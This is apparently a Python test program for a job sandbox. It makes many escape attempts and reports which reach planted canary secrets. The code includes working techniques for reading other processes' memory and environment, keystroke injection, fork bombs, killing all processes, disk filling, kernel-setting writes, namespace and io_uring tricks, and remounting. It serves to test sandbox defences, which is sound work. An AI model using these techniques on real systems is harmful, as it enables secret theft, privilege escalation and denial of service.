"""What a hostile job tries: a child's program of its own, which needs nothing but Python.

    python -I in/attacks.py NAME

reads `NAME/job.json` as every child does, makes each attempt in a process of its own, and answers with what
each has reached. A way out that is refused raises or returns nothing. `job["targets"]` says where what is
worth stealing lies: an attacker who has to guess would be a weaker one.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

#: How long one attempt may take.
_ATTEMPT_S = 10
_BOMB_PROCESSES = 400
_MIB = 1024 * 1024
_CLONE_NEWUSER = 0x10000000
_CLONE_NEWNS = 0x00020000

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long


@dataclass(frozen=True)
class Attack:
    """One way out; `run` returns what it has reached."""

    name: str
    run: Callable[[dict[str, Any]], str | None]
    #: Whose process it works in when nothing defends: "anyone", "root" or "ordinary" users.
    by: str
    #: What of the machine it takes for it to work at all, if that is not everywhere so.
    needs: str
    #: It would take the others with it: run in a child of its own.
    alone: bool

    def tried_as(self, user: str) -> bool:
        """Whether it means anything when the daemon is this user."""
        return self.by != "ordinary" or user != "root"


ATTACKS: list[Attack] = []


def attack(
    name: str, *, by: str = "anyone", needs: str = "", alone: bool = False
) -> Callable[[Callable[[dict[str, Any]], str | None]], Callable[[dict[str, Any]], str | None]]:
    def register(run: Callable[[dict[str, Any]], str | None]) -> Callable[[dict[str, Any]], str | None]:
        ATTACKS.append(Attack(name, run, by, needs, alone))
        return run

    return register


def _read(path: str | Path) -> str:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 200).decode(errors="replace")
    finally:
        os.close(fd)


def _first(attempts: Iterator[str]) -> str:
    """Return what the first attempt that reaches something has reached."""
    for reached in attempts:
        if reached:
            return reached
    return ""


def _each(paths: list[str], do: Callable[[str], str]) -> str:
    """Return what `do` reaches by any of these."""
    return _first(_tried(do, path) for path in paths)


def _tried(do: Callable[[str], str], path: str) -> str:
    try:
        return do(path)
    except (OSError, ValueError):
        return ""


def _syscall(number: int, *arguments: Any) -> int:
    """Call the kernel by number, as on x86-64; raises `OSError`."""
    if platform.machine() != "x86_64":
        raise OSError(errno.ENOSYS, "these numbers are those of x86-64")
    result: int = _LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _others(targets: dict[str, Any]) -> list[int]:
    """Return the daemon, and behind the wall whatever else there is: outside that is the whole machine."""
    pids = [int(targets["daemon_pid"])]
    if targets["walled"]:
        pids += [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in pids if pid not in {os.getpid(), os.getppid()}]


def _leads_to_python(path: str) -> bool:
    """Whether the interpreter lies below: behind the wall such a directory is there, and empty else."""
    prefixes = (sys.prefix, sys.base_prefix, *sys.path)
    return any(Path(prefix).is_relative_to(path) for prefix in prefixes)


# --- secrets -------------------------------------------------------------------------------------------


@attack("read the token's file")
def _token(targets: dict[str, Any]) -> str:
    return _read(targets["token"])


@attack("read the configuration")
def _config(targets: dict[str, Any]) -> str:
    return _read(targets["config"])


@attack("read /etc/shadow", by="root")
def _shadow(_: dict[str, Any]) -> str:
    return _read("/etc/shadow")


@attack("list /etc")
def _etc(_: dict[str, Any]) -> str:
    known = {"passwd", "group", "ld.so.cache", "ld.so.conf", "ld.so.conf.d", "localtime", "alternatives"}
    return " ".join(sorted(set(os.listdir("/etc")) - known))[:200]


@attack("list homes and state of the system")
def _homes(_: dict[str, Any]) -> str:
    found = []
    for directory in ("/root", "/home", "/var", "/run", "/srv", "/opt", "/mnt", "/media", "/boot"):
        try:
            found += [f"{directory}/{name}" for name in os.listdir(directory)]
        except OSError:
            continue
    return " ".join(path for path in found if not _leads_to_python(path))[:200]


@attack("read the daemon's environment")
def _environment(targets: dict[str, Any]) -> str:
    def canary(path: str) -> str:
        content = Path(path).read_bytes()
        at = content.find(b"canary-")
        return content[at : at + 60].decode() if at >= 0 else ""

    return _each([f"/proc/{pid}/environ" for pid in [*_others(targets), os.getppid()]], canary)


@attack("read the daemon's memory")
def _memory(targets: dict[str, Any]) -> str:
    def at_address(path: str) -> str:
        with open(path, "rb", buffering=0) as memory:
            memory.seek(int(targets["address"]))
            return memory.read(40).decode()

    return _each([f"/proc/{pid}/mem" for pid in _others(targets)], at_address)


@attack("copy the daemon's memory with process_vm_readv")
def _process_vm_readv(targets: dict[str, Any]) -> str:
    buffer = ctypes.create_string_buffer(40)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 40)
    remote = (ctypes.c_size_t * 2)(int(targets["address"]), 40)

    def copy(pid: str) -> str:
        _syscall(310, int(pid), local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0))
        return buffer.value.decode()

    return _each([str(pid) for pid in _others(targets)], copy)


@attack("read the daemon's memory map")
def _maps(targets: dict[str, Any]) -> str:
    def of_python(path: str) -> str:
        content = _read(path)
        return content if "python" in content else ""

    return _each([f"/proc/{pid}/maps" for pid in _others(targets)], of_python)


@attack("open the daemon's files by /proc/PID/fd")
def _proc_fd(targets: dict[str, Any]) -> str:
    paths = []
    for pid in _others(targets):
        try:
            paths += [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
    return _each(paths, lambda path: stat.S_ISREG(os.stat(path).st_mode) and _read(path) or "")


@attack("go through /proc/PID/root and /proc/PID/cwd")
def _proc_root(targets: dict[str, Any]) -> str:
    found = []
    for pid in [*_others(targets), os.getpid(), os.getppid()]:
        found += [f"/proc/{pid}/root{targets['token']}", f"/proc/{pid}/cwd/{targets['token_from_daemon']}"]
    return _each(found, _read)


@attack("see the daemon's command line")
def _command_line(targets: dict[str, Any]) -> str:
    def shown(path: str) -> str:
        content = Path(path).read_bytes()
        return content.replace(b"\0", b" ").decode() if targets["daemon_name"].encode() in content else ""

    return _each([f"/proc/{pid}/cmdline" for pid in _others(targets)], shown)


@attack("open the token by its file handle", by="root", needs="a file system with file handles")
def _file_handle(targets: dict[str, Any]) -> str:
    kind, content = targets["handle"]
    data = bytes.fromhex(content)
    handle = struct.pack("Ii", len(data), kind) + data
    mount = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    return _read(f"/proc/self/fd/{_syscall(304, mount, handle, os.O_RDONLY)}")


@attack("read the daemon's keys from its keyring", needs="kernel keyrings")
def _keyring(targets: dict[str, Any]) -> str:
    search, read, session = 10, 11, -3
    key = _syscall(250, search, session, b"user", targets["key"].encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    _syscall(250, read, key, buffer, 100)
    return buffer.value.decode()


@attack("read the daemon's shared memory (System V)")
def _system_v(targets: dict[str, Any]) -> str:
    _LIBC.shmat.restype = ctypes.c_void_p
    number = _syscall(29, targets["system_v_key"], ctypes.c_size_t(0), 0)
    address = _LIBC.shmat(number, None, 0)
    return ctypes.string_at(address, 40).decode()


@attack("read what lies in /dev/shm")
def _dev_shm(_: dict[str, Any]) -> str:
    return _each([f"/dev/shm/{name}" for name in os.listdir("/dev/shm")], _canary)


def _canary(path: str) -> str:
    content = _read(path)
    return content if content.startswith("canary-") else ""


@attack("read what lies in /tmp")
def _tmp(targets: dict[str, Any]) -> str:
    return _read(targets["in_tmp"])


@attack("use descriptors that it has inherited")
def _inherited(targets: dict[str, Any]) -> str:
    own = {0, 1, 2, targets["progress_fd"], targets["answer_fd"]}
    found = {}
    for name in os.listdir("/proc/self/fd"):
        if int(name) not in own:
            try:
                found[name] = os.readlink(f"/proc/self/fd/{name}")
            except OSError:  # that of the listing itself
                continue
    return " ".join(found.values())


@attack("type into the daemon's terminal", needs="a kernel with TIOCSTI")
def _terminal(_: dict[str, Any]) -> str:
    def push(path: str) -> str:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        for character in b"id\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
        return "typed: id"

    return _each(["/dev/tty", *(f"/proc/self/fd/{fd}" for fd in (0, 1, 2))], push)


# --- other jobs' files, and writing where it may not ----------------------------------------------------


@attack("read another job's workspace")
def _other_job(targets: dict[str, Any]) -> str:
    return _read(targets["other"])


@attack("climb to another job's workspace")
def _climb(targets: dict[str, Any]) -> str:
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    below = f"{targets['other_root_name']}/in/dataset.zip"
    ways = ("..", "/job/..", "in/../..", "/proc/self/cwd/..", f"/proc/self/fd/{here}/..", "/proc/1/cwd/..")
    return _each([f"{way}/{below}" for way in ways], _read)


@attack("follow a link to another job's workspace")
def _link(targets: dict[str, Any]) -> str:
    link = Path(targets["own"], "link")
    link.symlink_to(targets["other"])
    return _read(link)


@attack("make a hard link to the token")
def _hard_link(targets: dict[str, Any]) -> str:
    link = Path(targets["own"], "hard-link")
    os.link(targets["token"], link)
    return _read(link)


@attack("read what the daemon has frozen")
def _frozen(_: dict[str, Any]) -> str:
    return _each(["out/frozen.pt", "/job/out/frozen.pt"], _read)


def _written(path: str) -> str:
    """Write a new file in a directory, or open a file for writing."""
    if Path(path).is_dir():
        path = f"{path}/written"
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
    else:
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    return path


@attack("change what was fetched")
def _write_in(_: dict[str, Any]) -> str:
    return _each(["in", "in/dataset.zip"], _written)


@attack("change what was fetched after making it writable")
def _chmod_in(_: dict[str, Any]) -> str:
    os.chmod("in/dataset.zip", 0o777)
    return "in/dataset.zip"


@attack("move what was fetched away")
def _rename_in(_: dict[str, Any]) -> str:
    os.rename("in", "in-of-old")
    os.rename("in-of-old", "in")
    return "in"


@attack("change what an earlier child made")
def _write_earlier(_: dict[str, Any]) -> str:
    return _each(["prepare", "prepare/data.yaml"], _written)


@attack("write beside its own directory")
def _write_beside(targets: dict[str, Any]) -> str:
    return _each([".", "out", "..", str(Path(targets["other"]).parent)], _written)


@attack("change the system that the next job uses", by="root")
def _write_system(_: dict[str, Any]) -> str:
    packages = [path for path in sys.path if path.endswith("site-packages")]
    return _each([*packages, os.__file__, "/usr/lib", "/etc/ld.so.cache", "/etc"], _opened_to_write)


def _opened_to_write(path: str) -> str:
    if not os.access(path, os.W_OK) or os.statvfs(path).f_flag & os.ST_RDONLY:
        return ""
    if not Path(path).is_dir():
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    else:
        os.close(os.open(path, os.O_TMPFILE | os.O_WRONLY, 0o600))  # no name: nothing is left
    return path


@attack("mount the system again, writable", by="root")
def _remount(_: dict[str, Any]) -> str:
    remount, bind = 32, 4096
    target = b"/usr" if os.path.ismount("/usr") else b"/"
    _syscall(165, b"none", target, b"", ctypes.c_ulong(remount | bind), None)
    return target.decode()


# --- network -------------------------------------------------------------------------------------------


def _greeting(family: int, address: Any, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        client.send(b"hello")
        return client.recv(100).decode()


@attack("connect to a port of this machine")
def _tcp(targets: dict[str, Any]) -> str:
    return _greeting(socket.AF_INET, ("127.0.0.1", targets["port"]))


@attack("connect to a port of this machine by IPv6", needs="IPv6")
def _tcp6(targets: dict[str, Any]) -> str:
    return _greeting(socket.AF_INET6, ("::1", targets["port6"]))


@attack("send a datagram to a port of this machine")
def _udp(targets: dict[str, Any]) -> str:
    return _greeting(socket.AF_INET, ("127.0.0.1", targets["udp_port"]), socket.SOCK_DGRAM)


@attack("find a route out of this machine", needs="a network")
def _route(_: dict[str, Any]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # no packet is sent
        return f"from {probe.getsockname()[0]}"


@attack("see the machine's interfaces", needs="a network")
def _interfaces(_: dict[str, Any]) -> str:
    return " ".join(name for _, name in socket.if_nameindex() if name != "lo")


@attack("see the machine's connections")
def _connections(targets: dict[str, Any]) -> str:
    wanted = f":{targets['port']:04X} "
    return " ".join(line.strip() for line in Path("/proc/net/tcp").read_text().splitlines() if wanted in line)


@attack("talk to the daemon's unix socket")
def _unix(targets: dict[str, Any]) -> str:
    return _greeting(socket.AF_UNIX, targets["unix"])


@attack("find unix sockets in the file system")
def _unix_walk(targets: dict[str, Any]) -> str:
    found = []
    for top in ("/run", "/var/run", "/dev", str(Path(targets["unix"]).parent)):
        for directory, _, names in os.walk(top):
            found += [path for name in names if _is_socket(path := f"{directory}/{name}")]
    return " ".join(found)[:200]


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


@attack("talk to an abstract unix socket")
def _abstract(targets: dict[str, Any]) -> str:
    return _greeting(socket.AF_UNIX, f"\0{targets['abstract']}")


@attack("open a socket that leaves by the hypervisor (vsock)", needs="a kernel with vsock")
def _vsock(_: dict[str, Any]) -> str:
    with socket.socket(40, socket.SOCK_STREAM) as opened:
        return f"family {opened.family}"


@attack("open a socket of a rarer family", needs="a kernel with such a family")
def _families(_: dict[str, Any]) -> str:
    usual = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, 40}
    opened = []
    for family in set(range(1, 46)) - usual:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
            except OSError:
                continue
            opened.append(family)
            break
    return " ".join(map(str, opened))


@attack("open a raw socket", by="root")
def _raw(_: dict[str, Any]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as opened:
        return f"family {opened.family}"


# --- processes -----------------------------------------------------------------------------------------


@attack("kill another job's process")
def _kill(targets: dict[str, Any]) -> str:
    os.kill(targets["victim_pid"], signal.SIGKILL)
    return f"process {targets['victim_pid']}"


@attack("signal the daemon")
def _signal(targets: dict[str, Any]) -> str:
    os.kill(targets["daemon_pid"], signal.SIGCONT)
    return f"process {targets['daemon_pid']}"


@attack("kill all that it can", alone=True)
def _kill_all(targets: dict[str, Any]) -> str:
    if targets["walled"]:
        os.kill(-1, signal.SIGKILL)
    else:  # the same call would end whatever else this user runs
        os.kill(targets["victim_pid"], signal.SIGKILL)
    return "all"


@attack("trace its parent")
def _trace_parent(_: dict[str, Any]) -> str:
    return _traced(os.getppid())


@attack("trace the daemon, or the first process")
def _trace(targets: dict[str, Any]) -> str:
    return _each([str(pid) for pid in _others(targets)], lambda pid: _traced(int(pid)))


def _traced(pid: int) -> str:
    seize = 0x4206  # stops nothing
    _syscall(101, ctypes.c_long(seize), pid, None, None)
    return f"process {pid}"


@attack("take a descriptor out of another process")
def _pidfd_getfd(targets: dict[str, Any]) -> str:
    def take(pid: str) -> str:
        taken = _syscall(438, os.pidfd_open(int(pid)), 1, 0)
        return os.readlink(f"/proc/self/fd/{taken}")

    return _each([str(pid) for pid in [*_others(targets), os.getppid()]], take)


@attack("leave a process behind")
def _orphan(targets: dict[str, Any]) -> str:
    pause = "import signal\nwhile True: signal.pause()"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 100)
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", pause, targets["orphan"]])
        os._exit(0)
    os.wait()
    return "left; whether it lives on is for the daemon to see"


@attack("a fork bomb", by="ordinary", alone=True)
def _fork_bomb(_: dict[str, Any]) -> str:
    pids: list[int] = []
    try:
        while len(pids) < _BOMB_PROCESSES:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            pids.append(pid)
    except OSError:
        pass
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return "without an end" if len(pids) == _BOMB_PROCESSES else ""


# --- the machine's means -------------------------------------------------------------------------------


def _fill(directory: str, targets: dict[str, Any]) -> str:
    path = f"{directory}/fill-{os.getpid()}"
    fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
    try:
        os.posix_fallocate(fd, 0, targets["fill_bytes"])
        if targets["walled"]:
            signal.pause()  # until it is ended for it
        return f"{targets['fill_bytes'] // _MIB} MiB"
    finally:
        os.close(fd)
        os.unlink(path)


@attack("fill /dev/shm", alone=True)
def _fill_shm(targets: dict[str, Any]) -> str:
    return _fill("/dev/shm", targets)


@attack("fill /tmp", alone=True)
def _fill_tmp(targets: dict[str, Any]) -> str:
    return _fill("/tmp", targets)


@attack("make a file of 10 TB", needs="a file system that can")
def _sparse(targets: dict[str, Any]) -> str:
    path = Path(targets["own"], "sparse")
    try:
        with path.open("wb") as file:
            file.truncate(10 * 1024**4)
        return "10 TB"
    finally:
        path.unlink()


@attack("have more than its limits", by="root")
def _limits(_: dict[str, Any]) -> str:
    raised = []
    for name in ("CORE", "FSIZE", "NPROC"):
        try:
            resource.setrlimit(getattr(resource, f"RLIMIT_{name}"), (resource.RLIM_INFINITY,) * 2)
        except (OSError, ValueError):
            continue
        raised.append(name)
    return " ".join(raised)


@attack("make the kernel kill others first when memory runs out")
def _oom_score(_: dict[str, Any]) -> str:
    Path("/proc/self/oom_score_adj").write_text("0")
    return "oom_score_adj is 0"


@attack("run before all others", by="root")
def _realtime(_: dict[str, Any]) -> str:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "SCHED_FIFO"


# --- privileges and the kernel's surface ------------------------------------------------------------------


@attack("become root by a setuid program", by="ordinary", needs="su")
def _setuid(_: dict[str, Any]) -> str:
    read, write = os.pipe()
    with subprocess.Popen(["su"], stdin=read, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as su:
        try:
            end = time.monotonic() + 0.5
            while time.monotonic() < end and su.poll() is None:
                for line in Path(f"/proc/{su.pid}/status").read_text().splitlines():
                    if line.startswith("Uid:") and line.split()[2] == "0":
                        return line
        finally:
            os.close(write)
            su.kill()
    return ""


@attack("become root by setuid()", by="root")
def _set_user(_: dict[str, Any]) -> str:
    os.setresuid(0, 0, 0)
    return "uid 0"


@attack("hold a capability", by="root")
def _capabilities(_: dict[str, Any]) -> str:
    lines = Path("/proc/self/status").read_text().splitlines()
    return " ".join(line for line in lines if line.startswith("Cap") and int(line.split()[1], 16))


@attack("make a user namespace by unshare", needs="user namespaces")
def _unshare(_: dict[str, Any]) -> str:
    _syscall(272, ctypes.c_long(_CLONE_NEWUSER))
    return "a namespace"


@attack("make a user namespace by clone", needs="user namespaces")
def _clone(_: dict[str, Any]) -> str:
    if _syscall(56, ctypes.c_long(_CLONE_NEWUSER | signal.SIGCHLD), None, None, None, None) == 0:
        os._exit(0)
    return "a namespace"


@attack("make a process by clone3, whose flags no filter sees", needs="clone3")
def _clone3(_: dict[str, Any]) -> str:
    arguments = struct.pack("11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    if _syscall(435, arguments, ctypes.c_size_t(len(arguments))) == 0:
        os._exit(0)
    return "a process"


@attack("mount in a namespace of its own", needs="user namespaces")
def _mount(_: dict[str, Any]) -> str:
    try:
        _syscall(272, ctypes.c_long(_CLONE_NEWUSER | _CLONE_NEWNS))
    except OSError:
        if os.getuid() != 0:
            raise
    _syscall(165, b"none", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None)
    return "/tmp"


@attack("enter the daemon's namespaces", by="root")
def _setns(targets: dict[str, Any]) -> str:
    def enter(pid: str) -> str:
        for kind in ("net", "mnt", "pid", "user"):
            try:
                _syscall(308, os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
            except OSError:
                continue
            return kind
        return ""

    return _each([str(pid) for pid in _others(targets)], enter)


@attack("leave by chroot", by="root")
def _chroot(targets: dict[str, Any]) -> str:
    os.chroot(targets["own"])
    return "chroot"


@attack("read the disk by a device of its own", by="root", needs="a disk below the work directory")
def _mknod(targets: dict[str, Any]) -> str:
    device = f"{targets['own']}/device"
    os.mknod(device, stat.S_IFBLK | 0o600, os.stat(targets["own"]).st_dev)
    return f"{len(_read(device))} characters of the disk"


@attack("open a device", needs="a device that anybody may open")
def _devices(_: dict[str, Any]) -> str:
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr"}
    names = {"mem", "kmem", "kmsg", "fuse", "kvm", "vhost-vsock", "vhost-net", "vsock", "loop-control", "port"}
    names |= {"input", "uinput", "net/tun", "userfaultfd", "dri/card0", "udmabuf"}
    try:
        names |= {name for name in os.listdir("/dev") if name.startswith(("vd", "sd", "nvme", "loop"))}
    except OSError:
        pass
    opened = []
    for name in sorted(names - harmless):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            continue
        opened.append(name)
    return " ".join(opened)


@attack("change the kernel's settings", by="root")
def _kernel_settings(_: dict[str, Any]) -> str:
    return _each(
        [
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/vm/overcommit_memory",
            "/proc/sysrq-trigger",
            "/proc/irq/default_smp_affinity",
            "/sys/kernel/mm/transparent_hugepage/enabled",
            "/sys/fs/cgroup/cgroup.procs",
            "/sys/power/state",
        ],
        _written,
    )


@attack("read the kernel's memory and tables in /proc", by="root")
def _kernel_tables(_: dict[str, Any]) -> str:
    def opened(path: str) -> str:
        return path if _read(path) else ""

    names = ("kcore", "kmsg", "kpagecount", "kpageflags", "slabinfo", "vmallocinfo", "timer_list")
    return " ".join(filter(None, (_tried(opened, f"/proc/{name}") for name in names)))


@attack("read the kernel's log", needs="kernel.dmesg_restrict = 0")
def _kernel_log(_: dict[str, Any]) -> str:
    buffer = ctypes.create_string_buffer(1000)
    length = _syscall(103, 3, buffer, 1000)
    return buffer.raw[:length].decode(errors="replace")[:60] or "an empty log"


@attack("set up io_uring", needs="a kernel with io_uring")
def _io_uring(_: dict[str, Any]) -> str:
    return f"descriptor {_syscall(425, 8, ctypes.create_string_buffer(120))}"


@attack("set up io_uring by the call of 32-bit programs", needs="io_uring, and 32-bit calls")
def _io_uring_32(_: dict[str, Any]) -> str:
    if platform.machine() != "x86_64":
        raise OSError(errno.ENOSYS, "the code is that of x86")
    low = 0x40  # MAP_32BIT: such a program sees no more of an address
    code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | low, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = ctypes.addressof(ctypes.c_char.from_buffer(code))
    # push rbx; mov ebx, 8; mov ecx, start + 2048; mov eax, 425; int 0x80; pop rbx; ret
    program = b"\x53\xbb" + struct.pack("I", 8) + b"\xb9" + struct.pack("I", start + 2048)
    code.write(program + b"\xb8" + struct.pack("I", 425) + b"\xcd\x80\x5b\xc3")
    result = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return f"descriptor {result}"


@attack("handle page faults of its own (userfaultfd)", needs="a kernel with userfaultfd")
def _userfaultfd(_: dict[str, Any]) -> str:
    user_mode_only = 1
    return f"descriptor {_syscall(323, ctypes.c_long(user_mode_only))}"


@attack("load a program into the kernel (bpf)", by="root", needs="a kernel with bpf")
def _bpf(_: dict[str, Any]) -> str:
    array = struct.pack("5I", 2, 4, 4, 1, 0) + bytes(100)
    return f"descriptor {_syscall(321, 0, array, ctypes.c_uint(len(array)))}"


@attack("count what the machine does (perf_event_open)", needs="kernel.perf_event_paranoid below 3")
def _perf(_: dict[str, Any]) -> str:
    software, user_only = 1, (1 << 5) | (1 << 6)
    attributes = struct.pack("IIQQQQQ", software, 112, 0, 0, 0, 0, user_only) + bytes(64)
    return f"descriptor {_syscall(298, attributes, 0, -1, -1, ctypes.c_ulong(0))}"


@attack("keep a key in the kernel", needs="kernel keyrings")
def _add_key(_: dict[str, Any]) -> str:
    process_keyring = -2
    return f"key {_syscall(248, b'user', b'hostile', b'x', ctypes.c_size_t(1), process_keyring)}"


@attack("load a kernel module", by="root", needs="a kernel with modules")
def _module(_: dict[str, Any]) -> str:
    try:
        _syscall(175, b"not a module", ctypes.c_ulong(12), b"")
    except OSError as error:
        if error.errno != errno.ENOEXEC:
            raise
    return "the kernel has read it"


def _attempt(tried: Attack, targets: dict[str, Any]) -> dict[str, str]:
    """Make one attempt in a process of its own; returns what it `reached`, or by what it was `refused`."""
    read_fd, write_fd = os.pipe()
    pid = os.fork()
    if pid == 0:
        signal.alarm(_ATTEMPT_S)
        os.close(read_fd)
        try:
            reached = tried.run({**targets, "answer_fd": write_fd})
            answer = {"reached": reached} if reached else {"refused": "nothing there"}
        except (OSError, ValueError) as error:
            answer = {"refused": str(error)}
        except BaseException as error:  # noqa: BLE001 - a bug of the attack is not a defence
            answer = {"broken": f"{type(error).__name__}: {error}"}
        os.write(write_fd, json.dumps(answer).encode()[:60_000])
        os._exit(0)
    os.close(write_fd)
    poll = select.poll()
    poll.register(read_fd, select.POLLIN)
    poll.poll((_ATTEMPT_S + 1) * 1000)
    data = os.read(read_fd, 65536)
    os.close(read_fd)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if data:
        found: dict[str, str] = json.loads(data)
        return found
    return {"refused" if status < 0 else "broken": f"ended with status {status}"}


def main() -> None:
    """Make every attempt that `job.json` does not leave out."""
    directory = Path(sys.argv[1])
    job = json.loads((directory / "job.json").read_text())
    targets = {**job["targets"], "own": str(directory.resolve()), "progress_fd": job["progress_fd"]}
    only = job.get("only")
    found = {}
    for tried in ATTACKS:
        if tried.name in only if only else tried.tried_as(targets["user"]) and not tried.alone:
            found[tried.name] = _attempt(tried, targets)
    (directory / "result.json").write_text(json.dumps({"ok": True, "result": found}))


if __name__ == "__main__":
    main()
